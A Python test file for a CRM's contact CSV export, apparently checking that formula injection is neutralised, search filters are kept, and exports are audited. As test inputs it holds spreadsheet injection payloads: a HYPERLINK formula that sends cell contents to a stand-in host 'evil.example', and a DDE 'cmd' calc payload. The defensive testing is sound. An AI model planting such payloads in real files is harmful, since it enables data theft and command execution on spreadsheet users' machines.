"""The contact list as CSV: formula injection neutralised in every cell, the search filter kept, every export
audited, read-only users allowed; the same over the API with ?format=csv."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import select

from crm_inbox.contacts.csv_export import csv_text, neutralise
from crm_inbox.db import unit_of_work
from crm_inbox.models import AuditEntry, Contact, ContactEmail, ContactPhone
from crm_inbox.staff.service import add_staff
from tests.conftest import make_token
from tests.test_pages import PASSWORD, log_in

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klick")'


@pytest.mark.parametrize(("cell", "expected"), [
    ("=1+1", "'=1+1"), ("+49 171 2345678", "'+49 171 2345678"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1", "'\r=1"), ("  =cmd|' /C calc'!A0", "'  =cmd|' /C calc'!A0"),
    ("Klaus Müller", "Klaus Müller"), ("a=b", "a=b"), ("", ""), (None, ""), (42, "42"), ("'=x", "'=x"),
])
def test_neutralise(cell, expected):
    assert neutralise(cell) == expected


def rows_of(data: bytes) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith("\ufeff")  # Excel reads UTF-8 only with it
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.fixture
def people(factory):  # type: ignore[no-untyped-def]
    with unit_of_work(factory) as session:
        add_staff(session, "leser@beispiel-firma.de", "Lea Leser", "readonly", password=PASSWORD)
        hostile = Contact(name=HOSTILE_NAME, tags=["@admin", "ok"])
        hostile.emails = [ContactEmail(email="evil@example.org")]
        hostile.phones = [ContactPhone(raw="+49 171 2345678", e164="+491712345678")]
        klaus = Contact(name="Klaus Müller", tags=[])
        klaus.emails = [ContactEmail(email="klaus@mueller.de")]
        session.add_all([hostile, klaus])


def test_readonly_staff_export_the_filtered_list_and_it_is_audited(client, factory, people):
    log_in(client, "leser@beispiel-firma.de")
    response = client.get("/contacts.csv?q=klaus")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].startswith("attachment;")
    assert response.mimetype == "text/csv"
    header, *rows = rows_of(response.data)
    assert header[:3] == ["id", "name", "company"]
    assert [r[1] for r in rows] == ["Klaus Müller"]
    everything = rows_of(client.get("/contacts.csv").data)[1:]
    by_name = {r[6]: r for r in everything}
    hostile = by_name["'+49 171 2345678"]
    assert hostile[1] == "'" + HOSTILE_NAME and hostile[7] == "'@admin; ok"
    for row in everything:
        for cell in row:
            assert not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")), cell
    with factory() as session:
        entries = list(session.execute(select(AuditEntry).where(AuditEntry.action == "export")
                                       .order_by(AuditEntry.id)).scalars())
    assert [(e.object_type, e.details["query"], e.details["count"]) for e in entries] == [
        ("contact", "klaus", 1), ("contact", "", 2)]
    assert all(e.staff_id is not None for e in entries)


def test_the_api_exports_csv_with_its_filters_and_audits_it(client, factory, people):
    token = make_token(factory, "anna@beispiel-firma.de", role="readonly")
    response = client.get("/api/v1/contacts?format=csv&email=evil@example.org",
                          headers={"Authorization": f"Bearer {token}"})
    assert response.status_code == 200 and response.mimetype == "text/csv"
    [row] = rows_of(response.data)[1:]
    assert row[1] == "'" + HOSTILE_NAME
    assert client.get("/api/v1/contacts?format=xml", headers={"Authorization": f"Bearer {token}"}).status_code == 400
    with factory() as session:
        [entry] = session.execute(select(AuditEntry).where(AuditEntry.action == "export")).scalars()
    assert entry.details["count"] == 1 and entry.details["query"]["email"] == "evil@example.org"


def test_csv_text_quotes_line_breaks_and_separators():
    text = csv_text(["a", "b"], [["x,y", "zeile 1\nzeile 2"], ['"q"', "=1"]])
    assert list(csv.reader(io.StringIO(text[1:]))) == [["a", "b"], ["x,y", "zeile 1\nzeile 2"], ['"q"', "'=1"]]
